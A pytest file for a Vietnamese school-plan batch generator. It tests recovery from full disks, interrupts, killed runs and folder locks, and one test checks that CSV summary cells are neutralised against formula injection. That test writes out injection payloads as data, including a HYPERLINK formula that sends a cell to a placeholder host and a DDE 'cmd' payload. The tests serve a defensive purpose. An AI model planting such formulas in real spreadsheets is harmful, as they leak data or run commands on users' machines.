"""A batch never stops on a row, never loses or replaces a file, and ends cleanly however it is ended:
a full disk, Ctrl+C, kill -9, a second batch into the same folder, school names written as formulas."""

from __future__ import annotations

import csv
import errno
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from docxread import open_docx
from support import HEADER, PLAN, ROSTER, run, school_a, school_b, summary

PLACES = ["Đại Kim", "Định Công", "Giáp Bát", "Hoàng Liệt", "Lĩnh Nam", "Mai Động", "Tân Mai", "Yên Sở"]


def csv_roster(path: Path, pairs: list[tuple[list, list]]) -> Path:
    """A CSV roster (as Excel saves it: UTF-8 with BOM, ';'), one row per (school 1 cells, school 2 cells)."""
    with path.open("w", encoding="utf-8-sig", newline="") as out:
        writer = csv.writer(out, delimiter=";")
        writer.writerow(HEADER[:-1])
        for number, (first, second) in enumerate(pairs, start=1):
            writer.writerow([number, "", "16/9/2025", *first, *second, ""])
    return path


def many_pairs(count: int) -> list[tuple[list, list]]:
    return [(school_a(f"{PLACES[i % len(PLACES)]} {i}"), school_b(f"Hòa Lâm {i}")) for i in range(count)]


def hidden(folder: Path) -> list[str]:
    """What a run may leave behind and must not: temporaries, a lock (every name starting with '.')."""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def assert_summary_is_the_folder(outdir: Path) -> list[dict]:
    """Every file the summary lists as made is a whole DOCX, and every DOCX in the folder is listed."""
    rows = summary(outdir)
    made = [r["Tệp"] for r in rows if r["Trạng thái"] == "đã tạo"]
    assert sorted(made) == sorted(p.name for p in outdir.glob("*.docx"))
    for name in made:
        assert "KẾ HOẠCH" in [p.text for p in open_docx((outdir / name).read_bytes()).paragraphs]
    return rows


# ---------------------------------------------------------------- spreadsheets and file names


def test_summary_cells_a_spreadsheet_would_run_are_made_inert(tmp_path):
    formulas = ['=HYPERLINK("http://vi-du.invalid/?d="&A1;"Bấm vào đây")', "=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3",
                "@SUM(A1:A9)"]
    pairs = [(school_a(), school_b())]
    for index in range(0, len(formulas), 2):
        first, second = school_a(), school_b()
        first[1] = formulas[index]  # the school's full name, shown in the summary
        second[0] = formulas[(index + 1) % len(formulas)]
        first[2], second[1] = f"=1+{index}", f"@A{index}"  # short names: the file name
        pairs.append((first, second))
    roster = csv_roster(tmp_path / "ds.csv", pairs)
    outdir = tmp_path / "out"
    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
    assert code == 0, err
    rows = assert_summary_is_the_folder(outdir)
    names = [r["Trường 1"] for r in rows[1:]] + [r["Trường 2"] for r in rows[1:]]
    assert sorted(names) == sorted(["'" + f.strip() for f in formulas] + ["'" + formulas[0]])
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    for path in outdir.glob("*.docx"):  # nor does a file name start like a formula (or an option)
        assert not path.name.startswith(("=", "+", "-", "@"))
    assert (outdir / "1+0 - @A0.docx").is_file()  # inside a name they are harmless


def test_tab_and_carriage_return_at_a_cells_start_are_made_inert_too(tmp_path):
    from kehoach.batch import LOI, Outcome
    from kehoach.batch.summary import Summary
    from kehoach.errors import Problem, Where

    made = Summary(tmp_path)
    made.add(Outcome("=Trang", 2, ("\t=1+1", "\r=2+2"), LOI, problems=(Problem(Where("-x.csv", cell="A2"), "lỗi"),)))
    made.close()
    with (tmp_path / "tong-hop.csv").open(encoding="utf-8-sig", newline="") as written:
        rows = list(csv.reader(written))
    assert rows[1] == ["'=Trang", "2", "'\t=1+1", "'\r=2+2", "lỗi", "", "'-x.csv:A2: lỗi"]


# ---------------------------------------------------------------- files are safe


def test_the_summary_never_replaces_an_input_or_a_file_kehoach_did_not_write(tmp_path):
    outdir = tmp_path / "out"
    outdir.mkdir()
    roster = csv_roster(outdir / "tong-hop.csv", [(school_a(), school_b())])  # the roster where the summary goes
    kept = roster.read_bytes()
    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
    assert code == 3 and f"{roster}: tệp kết quả trùng với một tệp đầu vào" in err
    assert roster.read_bytes() == kept and sorted(p.name for p in outdir.iterdir()) == ["tong-hop.csv"]
    other = tmp_path / "ds.csv"
    roster.rename(other)
    (outdir / "tong-hop.csv").write_text("Bảng tổng hợp của văn thư\n", "utf-8")  # a clerk's own file of that name
    code, out, err = run("batch", str(other), "--plan", str(PLAN), "-o", str(outdir))
    assert code == 3 and "không phải tệp do kehoach tạo nên không ghi đè" in err
    assert sorted(p.name for p in outdir.iterdir()) == ["tong-hop.csv"]
    (outdir / "tong-hop.csv").unlink()
    assert run("batch", str(other), "--plan", str(PLAN), "-o", str(outdir))[0] == 0
    assert run("batch", str(other), "--plan", str(PLAN), "-o", str(outdir))[0] == 0  # its own summary


# ---------------------------------------------------------------- a row never stops the batch


@pytest.mark.parametrize("where", ["kehoach.pipeline.compose", "kehoach.batch.write_atomic"])
def test_an_unexpected_failure_on_one_row_is_that_rows_error(where, tmp_path, monkeypatch):
    import importlib

    module, name = where.rsplit(".", 1)
    real = getattr(importlib.import_module(module), name)

    def broken(*args, **kwargs):
        if "Giáp Bát" in repr(args):
            raise RuntimeError("hỏng")
        return real(*args, **kwargs)

    monkeypatch.setattr(where, broken)
    roster = csv_roster(tmp_path / "ds.csv", many_pairs(4))
    outdir = tmp_path / "out"
    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
    assert code == 70
    rows = assert_summary_is_the_folder(outdir)
    assert [r["Trạng thái"] for r in rows] == ["đã tạo", "đã tạo", "lỗi", "đã tạo"]
    assert "lỗi nội bộ của kehoach khi tạo văn bản cho dòng này (RuntimeError: hỏng)" in rows[2]["Lỗi"]
    assert err.count("RuntimeError") == 1 and "Traceback" not in err
    assert "Xong: đã tạo 3, lỗi 1, bỏ qua 0." in out and hidden(outdir) == []


def test_a_date_a_docx_cannot_carry_fails_its_row_only(tmp_path):
    roster = csv_roster(tmp_path / "ds.csv", many_pairs(3))
    text = roster.read_text("utf-8-sig").splitlines()
    text[2] = text[2].replace("16/9/2025", "16/9/1925")  # a typo for 2025: before the ZIP format's 1980
    roster.write_text("\n".join(text) + "\n", "utf-8-sig")
    outdir = tmp_path / "out"
    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
    assert code != 0 and "Traceback" not in err
    rows = assert_summary_is_the_folder(outdir)
    assert [r["Trạng thái"] for r in rows] == ["đã tạo", "lỗi", "đã tạo"]
    assert rows[1]["Lỗi"].startswith(f"{roster}:")


class FullDisk:
    """A disk with `room` bytes left for the files written under folder: a write that does not fit fails
    with ENOSPC, as a real full disk does (in-process fault injection: no root, no loop device)."""

    def __init__(self, folder: Path, room: int):
        self.folder, self.room = str(folder), room
        self.real = os.fdopen

    def fdopen(self, fd: int, mode: str = "r", *args, **kwargs):
        opened = self.real(fd, mode, *args, **kwargs)
        if "w" in mode and os.readlink(f"/proc/self/fd/{fd}").startswith(self.folder):
            return Metered(opened, self)
        return opened


class Metered:
    def __init__(self, file, disk: FullDisk):
        self._file, self._disk = file, disk

    def write(self, data):
        if len(data) > self._disk.room:
            raise OSError(errno.ENOSPC, "No space left on device")
        self._disk.room -= len(data)
        return self._file.write(data)

    def __getattr__(self, name):
        return getattr(self._file, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self._file.close()


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="finds a descriptor's file through /proc (Linux)")
def test_a_full_disk_ends_the_run_with_a_message_and_a_summary_of_what_was_done(tmp_path, monkeypatch):
    roster = csv_roster(tmp_path / "ds.csv", many_pairs(8))
    outdir = tmp_path / "out"
    outdir.mkdir()
    (outdir / "TH Đại Kim 0 - TH Hòa Lâm 0.docx").write_bytes(b"the previous run's file")
    monkeypatch.setattr(os, "fdopen", FullDisk(outdir, room=20_000).fdopen)  # two plans fit, and the summary
    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
    assert code == 3
    assert err.count("ổ đĩa đã đầy") == 1 and "Lỗi nội bộ" not in err and "Traceback" not in err  # said once
    assert "Đã dừng: đã tạo 2, lỗi 0, bỏ qua 0." in out
    rows = assert_summary_is_the_folder(outdir)
    assert [r["Trạng thái"] for r in rows] == ["đã tạo", "đã tạo", "dừng"]
    assert rows[-1]["Lỗi"].startswith(f"dừng sau {rows[-2]['Trang tính']}, dòng {rows[-2]['Dòng']}: ")
    assert "ổ đĩa đã đầy" in rows[-1]["Lỗi"] and "các dòng sau chưa được tạo" in rows[-1]["Lỗi"]
    assert hidden(outdir) == []  # no temporary, no lock


def test_a_second_batch_into_a_folder_in_use_is_refused(tmp_path):
    from kehoach.write.output import FolderLock

    roster = csv_roster(tmp_path / "ds.csv", many_pairs(2))
    outdir = tmp_path / "out"
    with FolderLock(outdir):  # a batch of this (living) process is writing there
        code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
        assert code == 6
        assert err.startswith(f"{outdir}: thư mục đang được một lần chạy batch khác ghi vào (tiến trình {os.getpid()}")
        assert sorted(p.name for p in outdir.iterdir()) == [".kehoach.lock"]  # nothing written
    assert hidden(outdir) == []
    # the lock of a process that has died on this machine is taken over, with a note
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    import socket

    (outdir / ".kehoach.lock").write_text(f"{dead.stdout.strip()}\n{socket.gethostname()}\n", "utf-8")
    code, out, err = run("batch", str(roster), "--plan", str(PLAN), "-o", str(outdir))
    assert code == 0 and f"(tiến trình {dead.stdout.strip()}) đã bị dừng giữa chừng" in err
    assert hidden(outdir) == [] and len(summary(outdir)) == 2


# ---------------------------------------------------------------- interrupted for real (Linux: signals, a process group)


def start_batch(roster: Path, outdir: Path, *extra: str) -> subprocess.Popen:
    """`kehoach batch` in its own process group, as a terminal runs it (Ctrl+C reaches the whole group)."""
    return subprocess.Popen([sys.executable, "-m", "kehoach", "batch", str(roster), "--plan", str(PLAN), "-o", str(outdir),
                             *extra], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
                            env={**os.environ, "PYTHONWARNINGS": "error"})


def wait_for_files(outdir: Path, count: int, process: subprocess.Popen, limit: float = 60) -> None:
    deadline = time.monotonic() + limit
    while len(list(outdir.glob("*.docx"))) < count:
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.05)


@pytest.mark.skipif(sys.platform != "linux", reason="signals to a process group")
def test_ctrl_c_with_two_jobs_stops_with_a_message_a_whole_summary_and_exit_130(tmp_path):
    roster = csv_roster(tmp_path / "ds.csv", many_pairs(2000))  # far more than it can do before the Ctrl+C
    outdir = tmp_path / "out"
    process = start_batch(roster, outdir, "--jobs", "2")
    try:
        wait_for_files(outdir, 4, process)
        # meanwhile a second batch into the same folder is refused, and writes nothing
        code, out, err = run("batch", str(ROSTER), "--plan", str(PLAN), "-o", str(outdir))
        assert code == 6 and "đang được một lần chạy batch khác ghi vào" in err
        os.killpg(process.pid, signal.SIGINT)
        out, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
    assert process.returncode == 130
    assert "đã dừng theo yêu cầu (Ctrl+C)" in err and "Traceback" not in err
    assert "Đã dừng: đã tạo" in out
    rows = assert_summary_is_the_folder(outdir)
    assert rows[-1]["Trạng thái"] == "dừng" and len(rows) < 2001
    assert not [r for r in rows[:-1] if r["Trạng thái"] != "đã tạo"]
    assert hidden(outdir) == []


@pytest.mark.skipif(sys.platform != "linux", reason="signals to a process group")
def test_after_kill_9_the_next_run_removes_the_leftovers(tmp_path):
    roster = csv_roster(tmp_path / "ds.csv", many_pairs(2000))
    outdir = tmp_path / "out"
    process = start_batch(roster, outdir)
    try:
        wait_for_files(outdir, 4, process)
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
    assert [n for n in hidden(outdir) if n.endswith(".tmp")]  # what a killed run cannot help leaving
    (outdir / "ghi-chu.tmp").write_text("a clerk's own file", "utf-8")
    (outdir / ".ghi-chu.abcdefgh.tmp").write_text("not kehoach's name", "utf-8")
    again = start_batch(ROSTER, outdir)
    out, err = again.communicate(timeout=120)
    assert again.returncode == 0, err
    assert "Cảnh báo:" in err and "đã bị dừng giữa chừng" in err
    assert hidden(outdir) == [".ghi-chu.abcdefgh.tmp"] and (outdir / "ghi-chu.tmp").is_file()
